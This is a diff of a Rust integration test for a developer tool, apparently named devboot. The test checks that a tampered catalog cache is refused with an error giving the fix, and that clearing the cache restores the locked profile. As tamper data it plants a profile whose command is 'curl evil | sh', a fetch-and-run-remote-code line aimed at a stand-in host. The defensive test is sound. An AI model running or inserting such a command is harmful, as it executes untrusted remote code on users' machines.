@@ -347,10 +347,9 @@ fn a_locked_catalog_profile_is_used_exactly_offline_and_upgraded_only_by_a_revie
 fn cached_object(home: &Path, commit: &str, path: &str) -> PathBuf {
     let cache = std::fs::read_dir(home.join(".cache/devboot/catalogs"))
         .unwrap()
-        .next()
-        .unwrap()
-        .unwrap()
-        .path();
+        .map(|entry| entry.unwrap().path())
+        .find(|path| path.extension().is_some_and(|e| e == "git"))
+        .unwrap();
     let packs = cache.join("objects/pack");
     for entry in std::fs::read_dir(&packs).unwrap() {
         let pack = entry.unwrap().path();
@@ -386,10 +385,38 @@ fn a_tampered_cache_is_refused_with_the_fix() {
     let (_daemon, port) = git_daemon(&catalog.served);
     let project = project_extending(&format!("git://127.0.0.1:{port}/catalog.git"), "2.0.0");
     assert_eq!(run(project.devboot().arg("config")).code, 0);
+    let evil = "[services.web]\nimage = \"evil:latest\"\ncommand = \"curl evil | sh\"\n";
+    let refused_with_the_fix = || {
+        let refused = run(project.devboot().arg("config"));
+        assert_eq!(refused.code, 1, "{}", refused.stderr);
+        for expected in [
+            "`acme:profiles/rails.toml` in the catalog cache does not match devboot.lock",
+            "remove `~/.cache/devboot/catalogs`",
+        ] {
+            assert!(
+                refused.stderr.contains(expected),
+                "{expected} in {}",
+                refused.stderr
+            );
+        }
+        assert!(!refused.stderr.contains("evil") && !refused.stdout.contains("evil"));
+    };
+
+    // The verified copy a warm resolution reads (kept by its SHA-256).
+    let lock = project.read("devboot.lock");
+    let files = project.home().join(".cache/devboot/catalogs/files");
+    let digest = lock
+        .lines()
+        .find_map(|l| l.strip_prefix("\"profiles/rails.toml\" = \""))
+        .unwrap()
+        .trim_end_matches('"');
+    std::fs::write(files.join(digest), evil).unwrap();
+    refused_with_the_fix();
+
+    // The git object itself: same object id, other content, which git does not notice on a read.
+    std::fs::remove_dir_all(&files).unwrap();
     let commit = git(&catalog.work, &["rev-parse", "v2.0.0"]);
     let object = cached_object(&project.home(), &commit, "profiles/rails.toml");
-    // Same object id, other content: what git itself would not notice on a read.
-    let evil = "[services.web]\nimage = \"evil:latest\"\ncommand = \"curl evil | sh\"\n";
     let mut perms = std::fs::metadata(&object).unwrap().permissions();
     #[expect(
         clippy::permissions_set_readonly_false,
@@ -404,25 +431,14 @@ fn a_tampered_cache_is_refused_with_the_fix() {
         .status()
         .unwrap();
     assert!(status.success());
-    let refused = run(project.devboot().arg("config"));
-    assert_eq!(refused.code, 1, "{}", refused.stderr);
-    assert!(
-        refused.stderr.contains("does not match devboot.lock"),
-        "{}",
-        refused.stderr
-    );
-    assert!(
-        refused
-            .stderr
-            .contains("remove `~/.cache/devboot/catalogs/"),
-        "{}",
-        refused.stderr
-    );
-    assert!(
-        !refused.stderr.contains("evil") && !refused.stdout.contains("evil"),
-        "{}",
-        refused.stderr
-    );
+    refused_with_the_fix();
+
+    // The fix the message gives: without the cache, the locked commit is fetched again.
+    std::fs::remove_dir_all(project.home().join(".cache/devboot/catalogs")).unwrap();
+    let again = run(project.devboot().arg("config"));
+    assert_eq!(again.code, 0, "{}", again.stderr);
+    assert!(again.stdout.contains("ruby:3.2"));
+    assert_eq!(project.read("devboot.lock"), lock);
 }
 
 #[test]
